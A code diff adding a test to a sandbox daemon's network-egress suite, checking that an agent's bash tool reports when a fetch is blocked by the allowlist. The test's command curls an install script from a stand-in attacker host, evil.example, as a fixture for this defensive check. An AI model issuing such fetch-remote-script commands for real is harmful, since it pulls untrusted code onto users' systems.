@@ -6,6 +6,9 @@ import type { NetworkDecision, StartOptions, Task } from '../../client/index.js'
 import { runCli } from '../helpers/cli.js'
 import { startTestDaemon, type TestDaemon } from '../helpers/test-daemon.js'
 import { closeServer, echoHttp, echoHttps, listening, makeCertificate, tracked } from './egress-harness.js'
+import * as tendPlugin from '../../tools/index.js'
+import { callTool, createHost, TestAgent, textOf } from '../harness/host.js'
+import { waitFor } from '../helpers/wait-for.js'
 
 /*
  * `allow` through a real daemon: a task in its owner's namespace reaches the operator's allowlist
@@ -200,5 +203,25 @@ describe('per-task destinations', () => {
     const result = await runCli(['run', '--cwd', cwd, '--allow-net', 'https://registry.example/path', '--', 'true'], daemon.env)
     expect(result.exitCode).not.toBe(0)
     expect(result.stderr).toMatch(/allowNet\/0: "https:\/\/registry\.example\/path" is a URL: give the host/)
+  })
+})
+
+describe('an agent', () => {
+  test("reads in its tool result what was blocked and why, when its command failed after a block; the task ran with network allow", async () => {
+    const host = createHost()
+    const fork = host.plugin(tendPlugin, { home: daemon.home })
+    try {
+      await waitFor('the tend tools to be registered', () => host.tools.tools.size === 5)
+      const agent = new TestAgent('egress-agent')
+      const result = await callTool(host, agent, {
+        name: 'bash',
+        arguments: { command: `cd ${q(cwd)} && curl -sS -f --max-time 10 https://evil.example/install.sh`, description: 'fetch', network: 'allow' },
+      })
+      const text = textOf(result)
+      expect(text).toContain('blocked: evil.example:443 (not on the allowlist)')
+      expect(text).toMatch(/exit code: 56|exit code: 22/)
+    } finally {
+      fork.dispose()
+    }
   })
 })
